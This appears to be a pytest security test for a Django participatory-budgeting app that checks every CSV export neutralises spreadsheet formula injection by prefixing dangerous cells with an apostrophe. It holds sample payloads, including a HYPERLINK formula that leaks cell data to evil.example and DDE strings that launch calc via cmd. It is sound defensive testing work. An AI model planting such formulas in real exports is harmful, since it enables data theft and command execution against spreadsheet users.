"""Issue 8, item 4: no CSV export hands a spreadsheet a formula (OWASP "CSV injection").

Every text a resident or an agent writes (proposal and project titles, comments, draw titles)
is set to a formula, then every CSV route is fetched: each such cell must come out prefixed
with an apostrophe, which spreadsheets show as text.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.http import HttpResponseBase
from django.test import Client
from django.urls import reverse

from apps.budgets.models import Project
from apps.core.csvsafe import SafeDictWriter, safe_cell, writer
from apps.core.models import Process
from apps.core.registry import all_exports
from apps.discussion.models import Comment
from apps.proposals.models import Proposal
from apps.sortition.models import Draw
from tests.conftest import body_of
from tests.security.world import World

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
PAYLOADS = (FORMULA, "+33 6 12 34", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR")


def _cells(response: HttpResponseBase) -> list[str]:
    text = body_of(response).decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _poison(world: World) -> None:
    for model in (Proposal, Project, Draw):
        for n, pk in enumerate(model.objects.order_by("pk").values_list("pk", flat=True)):
            model.objects.filter(pk=pk).update(title=PAYLOADS[n % len(PAYLOADS)])
    for n, pk in enumerate(Comment.objects.order_by("pk").values_list("pk", flat=True)):
        Comment.objects.filter(pk=pk).update(body=PAYLOADS[n % len(PAYLOADS)])


def _assert_neutralised(cells: list[str], route: str) -> None:
    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell in PAYLOADS]
    assert not dangerous, (route, dangerous)
    assert any(cell.startswith("'") and cell[1:] in PAYLOADS for cell in cells), (route, cells[:40])


def test_every_open_data_csv_is_neutralised(world: World) -> None:
    _poison(world)
    client = Client()
    checked = 0
    process_slugs = list(Process.objects.published().values_list("slug", flat=True))
    for name, _spec in all_exports():
        response = client.get(reverse("opendata:export", kwargs={"name": name, "fmt": "csv"}))
        assert response.status_code == 200, name
        cells = _cells(response)
        if any(cell.lstrip("'") in PAYLOADS for cell in cells):
            _assert_neutralised(cells, name)
            checked += 1
        for slug in process_slugs:
            response = client.get(reverse("opendata:process_export", kwargs={"slug": slug, "name": name, "fmt": "csv"}))
            assert response.status_code == 200
            cells = _cells(response)
            if any(cell.lstrip("'") in PAYLOADS for cell in cells):
                _assert_neutralised(cells, f"{slug}/{name}")
    # The exports the issue names carry the payloads: proposals, comments and the draws.
    for name in ("proposals", "comments", "draws", "budget_projects"):
        response = client.get(reverse("opendata:export", kwargs={"name": name, "fmt": "csv"}))
        _assert_neutralised(_cells(response), name)
    assert checked >= 3


def test_budget_results_csv_is_neutralised(world: World) -> None:
    _poison(world)
    budget = world.extra["budgets_voting"].published_budget
    response = Client().get(reverse("budgets:results_export", kwargs={"slug": budget.process.slug, "fmt": "csv"}))
    assert response.status_code == 200
    _assert_neutralised(_cells(response), "budget results")


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert safe_cell(-12) == -12 and safe_cell(-0.5) == -0.5 and safe_cell(3) == 3
    assert safe_cell("Des bancs") == "Des bancs" and safe_cell("") == "" and safe_cell(None) is None
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    out = io.StringIO()
    writer(out, lineterminator="\n").writerow([-12, FORMULA, "12"])
    dict_out = io.StringIO()
    dict_writer = SafeDictWriter(dict_out, fieldnames=["cost", "title"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerow({"cost": -5, "title": "@evil"})
    assert out.getvalue().startswith("-12,")
    assert dict_out.getvalue() == "cost,title\n-5,'@evil\n"
